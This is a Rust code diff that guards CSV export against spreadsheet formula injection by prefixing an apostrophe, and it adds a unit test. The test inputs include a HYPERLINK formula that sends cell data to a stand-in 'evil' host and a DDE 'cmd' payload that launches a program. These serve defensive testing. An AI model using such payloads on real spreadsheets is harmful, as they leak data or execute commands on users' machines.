@@ -72,8 +72,26 @@ fn csv_row(columns: &[Column], at: usize, out: &mut String) {
     }
 }
 
-/// A text between commas.
+/// Appends a text between commas. Programs for tables run what looks like a formula, and rules make up texts; an apostrophe
+/// before it is what such programs read as "a text". It is put before an apostrophe too, so that whoever takes away the
+/// first one has the text again.
 pub(crate) fn csv_text(text: &str, out: &mut String) {
+    let guarded = if is_run_by_tables(text) { &*format!("'{text}") } else { text };
+    csv_cell(guarded, out);
+}
+
+/// Characters with which a formula begins, those of full width among them, or that a program for tables passes over
+/// before one; and the apostrophe.
+const BEFORE_FORMULAS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\'', '＝', '＋', '－', '＠'];
+
+/// True if a program for tables may take a text for a formula. Numbers and the keys of places, such as `-1,0,2`, are none.
+fn is_run_by_tables(text: &str) -> bool {
+    let is_number = |rest: &str| rest.chars().all(|c| c.is_ascii_digit() || matches!(c, ',' | '.' | '-'));
+    text.starts_with(BEFORE_FORMULAS) && !text.strip_prefix('-').is_some_and(is_number)
+}
+
+/// Appends a text in quotation marks where it needs them.
+fn csv_cell(text: &str, out: &mut String) {
     if !text.contains([',', '"', '\n', '\r']) {
         return out.push_str(text);
     }
@@ -100,4 +118,38 @@ fn json_row(columns: &[Column], at: usize, out: &mut String) {
         }
     }
     out.push('}');
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_is_a_formula() {
+        for (text, cell) in [
+            ("pond", "pond"),
+            ("=HYPERLINK(\"http://evil\"&A1)", "\"'=HYPERLINK(\"\"http://evil\"\"&A1)\""),
+            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+            ("+1+cmd", "'+1+cmd"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("＝1", "'＝1"),
+            ("'tis", "''tis"),
+            ("-", "-"),
+            ("-1,0,2", "\"-1,0,2\""),
+            ("-12", "-12"),
+            ("a=1", "a=1"),
+            ("", ""),
+        ] {
+            let mut out = String::new();
+            csv_text(text, &mut out);
+            assert_eq!(out, cell);
+            // Whoever takes away the quotation marks and the first apostrophe has the text again.
+            let bare = out.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')).unwrap_or(&out);
+            let bare = bare.replace("\"\"", "\"");
+            assert_eq!(bare.strip_prefix('\'').unwrap_or(&bare), text);
+        }
+    }
 }
